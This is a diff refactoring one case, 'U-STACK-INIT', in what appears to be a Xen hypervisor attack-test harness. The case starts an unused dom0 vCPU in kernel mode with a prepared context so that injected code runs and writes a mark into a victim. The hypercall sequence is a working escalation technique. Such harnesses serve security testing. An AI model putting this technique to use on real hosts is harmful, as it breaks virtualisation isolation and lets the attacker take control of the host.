@@ -5,8 +5,6 @@
  */
 #include "../frames/paging.h"
 
-#include <time.h>
-
 #include <xen/vcpu.h>
 
 #include "entry.h"
@@ -19,11 +17,7 @@ void vcpu_entry(void);
 __asm__(".pushsection .text\n"
         ".globl vcpu_entry\n"
         "vcpu_entry:\n"
-        "    mov entry_target(%rip), %rdi\n"
-        "    mov entry_mark(%rip), %rax\n"
-        "    mov %rax, (%rdi)\n"
-        "    mov entry_mark + 8(%rip), %rax\n"
-        "    mov %rax, 8(%rdi)\n"
+        "    call write_entry_mark\n"
         "    mov last_calls(%rip), %rdi\n"
         "    mov $2, %esi\n"
         "    mov $13, %eax\n" /* __HYPERVISOR_multicall */
@@ -71,8 +65,8 @@ static void start(unsigned int vcpu, uint64_t stack)
     context->failsafe_callback_eip = code;
     context->syscall_callback_eip = code;
 
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_initialise, vcpu, context);
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_up, vcpu, 0);
+    vcpu_op(VCPUOP_initialise, vcpu, context);
+    vcpu_op(VCPUOP_up, vcpu, 0);
 }
 
 /*
@@ -82,15 +76,13 @@ static void start(unsigned int vcpu, uint64_t stack)
  * are its business as well, and Xen takes their registers and page tables from
  * whoever starts them first.
  */
-ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode")
+PV_ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode",
+          "a PVH kernel is told of all its vCPUs")
 {
-    static const struct timespec for_a_while = { .tv_nsec = 50 * 1000 * 1000 };
     const unsigned int unused = (unsigned int)sysconf(_SC_NPROCESSORS_CONF);
     uint8_t *page = buffer(PAGE_SIZE);
 
-    if ( !dom0_is_pv() )
-        return not_applicable("PV only: a PVH kernel is told of all its vCPUs");
-    if ( hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_is_up, unused, 0) == -ENOENT )
+    if ( vcpu_op(VCPUOP_is_up, unused, 0) == -ENOENT )
         return not_applicable("the kernel uses all vCPUs of this dom0");
     if ( !kernel_alias(page) || !own_root() || !victim() )
         return cannot_try("no address for our page or the victim, or no root");
@@ -98,9 +90,8 @@ ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode")
     prepare_entry();
     prepare_last_calls(page, unused);
     start(unused, kernel_alias(page) + PAGE_SIZE);
-    nanosleep(&for_a_while, NULL);
+    rest(50);
 
-    return effect(victim_has_mark(), "%s",
-                  victim_has_mark() ? "code of ours ran on a vCPU of its own"
-                                    : "no code ran");
+    return effect_either(victim_has_mark(), "code of ours",
+                         "ran on a vCPU of its own", "did not run");
 }
